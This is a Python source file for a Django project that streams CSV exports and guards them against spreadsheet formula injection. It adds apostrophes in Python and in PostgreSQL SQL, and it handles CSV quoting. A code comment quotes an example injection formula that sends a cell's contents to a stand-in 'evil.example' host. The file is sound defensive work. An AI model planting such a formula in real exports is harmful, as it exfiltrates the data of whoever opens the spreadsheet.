"""CSV for spreadsheets: UTF-8 with a BOM (so Excel reads £ and accents), and no cell that
Excel or LibreOffice would run as a formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Iterator
from contextlib import closing, nullcontext
from dataclasses import dataclass
from datetime import date
from decimal import Decimal
from itertools import islice

from django.db import DEFAULT_DB_ALIAS, connections, models
from django.db.models import Expression, F, Func, QuerySet, TextField, Value
from django.db.models.constants import LOOKUP_SEP
from django.db.models.functions import Cast

from hope.compiled import Compiled, plan_for_every_row, read_transaction

# OWASP's CSV-injection rule: a text cell starting with one of these is a formula (or
# turns into one) in a spreadsheet, e.g. =HYPERLINK("http://evil.example/?"&A1,"Click").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"


def spreadsheet_cell(value) -> object:
    """Numbers stay numbers; text that could start a formula gets a leading apostrophe.

    Called for every cell of a long export, so the common types are matched by ``type``
    first (a year's export at ten years of data has 60,000 cells of each)."""
    kind = type(value)
    if kind is str:
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    if kind is Decimal or kind is int or kind is date:
        return value  # the csv module writes str(value): a date's str is its isoformat
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, int | Decimal):
        return value
    if isinstance(value, date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


# Expressions whose every value a spreadsheet reads as written, made so by PostgreSQL:
# ``sql_rows`` accepts a queryset whose columns are all of these (or whole numbers).
_SAFE = "spreadsheet_safe"
# ... of those, the ones whose text never holds a comma, a double quote or a line break,
# which a CSV line writes as they are (see ``_csv_line_rows``) ...
_PLAIN = "csv_plain"
# ... and, for the others, the column whose text decides whether the cell needs quotes,
# when that is cheaper to test than the cell (a formula's apostrophe never does).
_QUOTES_DECIDED_BY = "csv_quotes_decided_by"

# The csv module's rule (QUOTE_MINIMAL, the default dialect): a cell holding the
# delimiter, the quote character or a line break is written in double quotes, with its
# double quotes doubled. ``sql_rows`` has PostgreSQL apply the same rule.
_NEEDS_QUOTES = ',"\r\n'


def _safe(expression, *, plain: bool = False, quotes_decided_by: str | None = None):
    # Attributes are kept by the copies Django makes as it resolves the expression.
    setattr(expression, _SAFE, True)
    setattr(expression, _PLAIN, plain)
    setattr(expression, _QUOTES_DECIDED_BY, quotes_decided_by)
    return expression


def _plain(text: str) -> bool:
    return not any(character in text for character in _NEEDS_QUOTES)


def as_text(field: str) -> Cast:
    """A date or amount column as PostgreSQL writes it (2026-04-01, 12.50), for a long
    export: read as text, it needs no date or Decimal made and written back per cell.
    Only for columns that cannot start a formula (dates, amounts never below zero)."""
    return _safe(Cast(field, output_field=TextField()), plain=True)


# The formula starts as character codes: PostgreSQL's ascii() of a text's first
# character is an integer compared without making a one-letter text per cell.
_FORMULA_CODES = ", ".join(str(ord(start)) for start in FORMULA_STARTS)
# ... all below "A": most text starts with a letter, and one comparison rules it out
# before the list is searched (a quarter of a year's export's time in PostgreSQL).
_LAST_FORMULA_CODE = max(ord(start) for start in FORMULA_STARTS)


# safe_text and choice_label write their SQL themselves: as Case and When (a filter built
# for each choice, the column compiled for each branch) they cost an export more Python
# than PostgreSQL spends on them.
class _SafeText(Func):
    output_field = TextField()

    def as_sql(self, compiler, connection, **extra_context):
        sql, params = compiler.compile(self.source_expressions[0])
        return (
            f"CASE WHEN ASCII({sql}) <= {_LAST_FORMULA_CODE} AND ASCII({sql}) IN ({_FORMULA_CODES})"
            f" THEN '''' || ({sql}) ELSE ({sql}) END",
            [*params, *params, *params, *params],
        )


class _Label(Func):
    output_field = TextField()

    def __init__(self, field: str, labels: dict[str, str]):
        super().__init__(F(field))
        self.labels = labels

    def as_sql(self, compiler, connection, **extra_context):
        sql, params = compiler.compile(self.source_expressions[0])
        whens = " ".join("WHEN %s THEN %s" for _ in self.labels)
        pairs = [text for pair in self.labels.items() for text in pair]
        return f"CASE ({sql}) {whens} ELSE ({sql}) END", [*params, *pairs, *params]


def safe_text(field: str) -> _SafeText:
    """A text column with the formula rule applied by PostgreSQL (a leading apostrophe
    where the text starts like a formula), so a long export checks no cell in Python."""
    return _safe(_SafeText(F(field)), quotes_decided_by=field)


def choice_label(field: str, choices) -> _Label:
    """A choices column as its label (what ``get_FOO_display`` shows), from PostgreSQL;
    a value that is not a choice as it is."""
    labels = {str(value): str(label) for value, label in choices}
    if not labels:
        raise ValueError(f"{field} has no choices to label")
    if any(label.startswith(FORMULA_STARTS) for label in labels.values()):
        raise ValueError(f"a label of {field} starts like a formula")
    return _safe(
        _Label(field, labels),
        plain=all(_plain(text) for pair in labels.items() for text in pair),
    )


def fixed_text(text: str) -> Value:
    """The same text in every row (a type, a status, an empty cell), checked here."""
    if text.startswith(FORMULA_STARTS):
        raise ValueError(f"{text!r} starts like a formula")
    return _safe(Value(text, output_field=TextField()), plain=_plain(text))


def trusted(expression, *, plain: bool = False):
    """An expression the caller knows yields only text that cannot start a formula (a
    count written as text, a fixed label). Say why where it is used. ``plain`` when it
    cannot hold a comma, a double quote or a line break either (digits), so a CSV line
    writes it without that test."""
    return _safe(expression, plain=plain)


@dataclass(frozen=True)
class SqlRows:
    """A queryset of ``values_list`` rows that PostgreSQL has made spreadsheet-safe, and
    writes as CSV lines (see ``sql_rows`` and ``_CsvLine``)."""

    queryset: QuerySet

    def chunks(self, size: int) -> Iterator[list[tuple[str]]]:
        # In a transaction, so the server-side cursor is not WITH HOLD (see
        # Compiled.stream, which reads SqlLines the same way).
        lines_query = _csv_line_rows(self.queryset)
        with (
            read_transaction(lines_query.db),
            closing(lines_query.iterator(chunk_size=size)) as lines,
        ):
            plan_for_every_row(connections[lines_query.db])
            while chunk := list(islice(lines, size)):
                yield chunk


class SqlLines:
    """``sql_rows(build(**values))`` written as CSV lines by SQL compiled once a process
    (``hope.compiled.Compiled``), for an export run again and again with new values
    (the year): building and compiling a year's export of ten columns, each worded by
    PostgreSQL, cost Django more than a tenth of the download. ``build`` is called once,
    with made-up values, and must not branch on them."""

    def __init__(self, build: Callable[..., QuerySet], **kinds: type) -> None:
        self._compiled = Compiled(
            lambda **values: _csv_line_rows(sql_rows(build(**values)).queryset), **kinds
        )

    def rows(self, **values) -> SqlLinesPart:
        return SqlLinesPart(self._compiled, values)


@dataclass(frozen=True)
class SqlLinesPart:
    """``SqlLines`` with a request's values: a part of ``csv_blocks``."""

    compiled: Compiled
    values: dict

    def chunks(self, size: int) -> Iterator[list[tuple[str]]]:
        return self.compiled.chunks(chunk_size=size, **self.values)


# Plain columns a spreadsheet reads as written: whole numbers (ids, counts).
_PLAIN_SAFE = (models.IntegerField, models.AutoField)


def sql_rows(queryset: QuerySet) -> SqlRows:
    """Mark a ``values_list`` queryset as safe to write unchecked, after checking that it
    is: every column must be ``as_text``, ``safe_text``, ``choice_label``, ``fixed_text``
    or ``trusted``, or a whole-number field. A text column taken straight from a model is
    refused."""
    query = queryset.query
    for name, expression in query.annotation_select.items():
        if not getattr(expression, _SAFE, False):
            raise ValueError(f"CSV column {name!r} is not made spreadsheet-safe")
    for name in query.values_select:
        field = query.names_to_path(name.split(LOOKUP_SEP), query.get_meta())[1]
        if not isinstance(field, _PLAIN_SAFE) or isinstance(field, models.BooleanField):
            raise ValueError(f"CSV column {name!r} is not made spreadsheet-safe")
    if query.extra_select:
        raise ValueError("CSV columns from extra() cannot be checked")
    return SqlRows(queryset)


class _CsvLine(Expression):
    """A row's cells as its CSV line, without the line ending, written by PostgreSQL:
    each cell as text (a NULL as nothing, as the csv module writes None), joined by
    commas. When the row's texts hold a comma, a double quote or a line break, each
    cell that does is written in double quotes with its double quotes doubled.

    Whether a row needs quotes is one test of its texts together: a test per cell was
    most of the query's time, and few rows have a comma or a quote. Each cell is
    compiled once and its SQL written where the line needs it: as Django expressions,
    the two forms of the line cost more to resolve and compile than the query to run.
    """

    output_field = TextField()

    def __init__(self, cells: list, tests: list):
        super().__init__()
        self.cells = cells  # resolved expressions
        self.tests = tests  # for each cell, the resolved text to test, or None

    def get_source_expressions(self):
        return [*self.cells, *self.tests]

    def set_source_expressions(self, exprs):
        self.cells, self.tests = list(exprs[: len(self.cells)]), list(exprs[len(self.cells) :])

    def resolve_expression(self, *args, **kwargs):
        # Made of the queryset's own columns, resolved already (see _csv_line_rows).
        return self.copy()

    # Django compares a selected expression with the ORDER BY's by hashing both, which
    # for an expression hashes every node below it: a line is only ever itself.
    def __eq__(self, other):
        return self is other

    def __hash__(self):
        return id(self)

    def as_sql(self, compiler, connection):
        plain, plain_params = [], []
        quoted, quoted_params = [], []
        texts, texts_params = [], []
        pattern = f"[{_NEEDS_QUOTES}]"
        for cell, test in zip(self.cells, self.tests, strict=True):
            sql, params = compiler.compile(cell)
            sql = f"({sql})::text"
            plain.append(f"COALESCE({sql}, '')")
            plain_params += params
            if test is None:
                quoted.append(plain[-1])
                quoted_params += params
                continue
            test_sql, test_params = (sql, params) if test is cell else compiler.compile(test)
            test_sql = f"({test_sql})::text"
            texts.append(f"COALESCE({test_sql}, '')")
            texts_params += test_params
            quoted.append(
                f"COALESCE(CASE WHEN {test_sql} ~ %s"
                f""" THEN '"' || replace({sql}, '"', '""') || '"' ELSE {sql} END, '')"""
            )
            quoted_params += [*test_params, pattern, *params, *params]
        comma = " || ',' || "
        if not texts:
            sql, params = comma.join(plain), plain_params
        else:
            sql = (
                f"CASE WHEN ({' || '.join(texts)}) ~ %s"
                f" THEN {comma.join(quoted)} ELSE {comma.join(plain)} END"
            )
            params = [*texts_params, pattern, *quoted_params, *plain_params]
        if len(self.cells) == 1:
            # The csv module writes a row of one empty cell as "" (an empty line would
            # read as no row at all).
            return f"COALESCE(NULLIF({sql}, ''), '\"\"')", params
        return sql, params


def _csv_line_rows(queryset: QuerySet) -> QuerySet:
    """The ``sql_rows`` queryset as one text per row, its CSV line (``_CsvLine``).
    PostgreSQL joining the cells costs a few milliseconds a
    year; the csv module writing them, and psycopg2 making a string of each, cost ten
    times that."""
    query = queryset.query
    cells, tests = [], []
    for name in queryset._fields:  # the columns in values_list's order
        cell = query.resolve_ref(name)  # an annotation, or a whole number's column
        cells.append(cell)
        if name not in query.annotations or getattr(cell, _PLAIN, False):
            tests.append(None)
        elif decided_by := getattr(cell, _QUOTES_DECIDED_BY, None):
            tests.append(query.resolve_ref(decided_by))
        else:
            tests.append(cell)
    line = _CsvLine(cells, tests)
    return queryset.annotate(csv_line=line).values_list("csv_line")


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_lines(header: list[str], rows: Iterable[Iterable]) -> Iterable[str]:
    """The lines of a CSV file, for a StreamingHttpResponse: header first, with the BOM."""
    writer = csv.writer(_Echo())
    yield BOM + writer.writerow([spreadsheet_cell(cell) for cell in header])
    for row in rows:
        yield writer.writerow([spreadsheet_cell(cell) for cell in row])


# Cells the csv module writes as they should read, with nothing to make safe: checked by
# exact type, once per cell of a long export.
_WRITTEN_AS_THEY_ARE = frozenset({Decimal, int, date, type(None)})


def csv_blocks(
    header: list[str],
    *parts: Iterable[Iterable] | SqlRows | SqlLinesPart,
    rows_per_block: int = 1000,
) -> Iterator[str]:
    """``csv_lines`` in blocks of rows, for a long StreamingHttpResponse: a chunk per row
    costs the server more than the row itself (a year's export at ten years of data:
    60,000 writes to the socket), while a block keeps memory as flat as a row.

    Each part is either rows made safe here, cell by cell, or ``sql_rows`` or
    ``SqlLines.rows``, which PostgreSQL made safe and wrote as CSV lines: a Python check
    per cell, then the csv module's writing of each cell, was most of a long export's
    time."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    buffer.write(BOM)
    writer.writerow([spreadsheet_cell(value) for value in header])
    head = buffer.getvalue()
    buffer.seek(0)
    buffer.truncate()
    # The parts written by PostgreSQL are read in one transaction (each in a cursor of
    # its own), not one each.
    with read_transaction(DEFAULT_DB_ALIAS) if _any_sql(parts) else nullcontext():
        yield from _written(head, parts, writer, buffer, rows_per_block)


def _any_sql(parts) -> bool:
    return any(isinstance(part, SqlRows | SqlLinesPart) for part in parts)


def _written(head: str, parts, writer, buffer: io.StringIO, rows_per_block: int):
    for part in parts:
        if isinstance(part, SqlRows | SqlLinesPart):
            for text in _sql_blocks(part, rows_per_block):
                yield head + text
                head = ""
            continue
        for block in _checked_blocks(part, rows_per_block):
            writer.writerows(block)
            yield head + buffer.getvalue()
            head = ""
            buffer.seek(0)
            buffer.truncate()
    if head:  # the header, when there are no rows
        yield head


def _sql_blocks(part: SqlRows | SqlLinesPart, size: int) -> Iterator[str]:
    # Each block read from PostgreSQL (one round trip) and its lines joined at once.
    for chunk in part.chunks(size):
        yield "\r\n".join([line for (line,) in chunk]) + "\r\n"


def _checked_blocks(rows: Iterable[Iterable], size: int) -> Iterator[list]:
    cell, as_they_are, formula = spreadsheet_cell, _WRITTEN_AS_THEY_ARE, FORMULA_STARTS
    block: list[list] = []
    for row in rows:
        # spreadsheet_cell's rule, with its commonest cases written out.
        block.append(
            [
                ("'" + value if value.startswith(formula) else value)
                if type(value) is str
                else (value if type(value) in as_they_are else cell(value))
                for value in row
            ]
        )
        if len(block) == size:
            yield block
            block = []
    if block:
        yield block
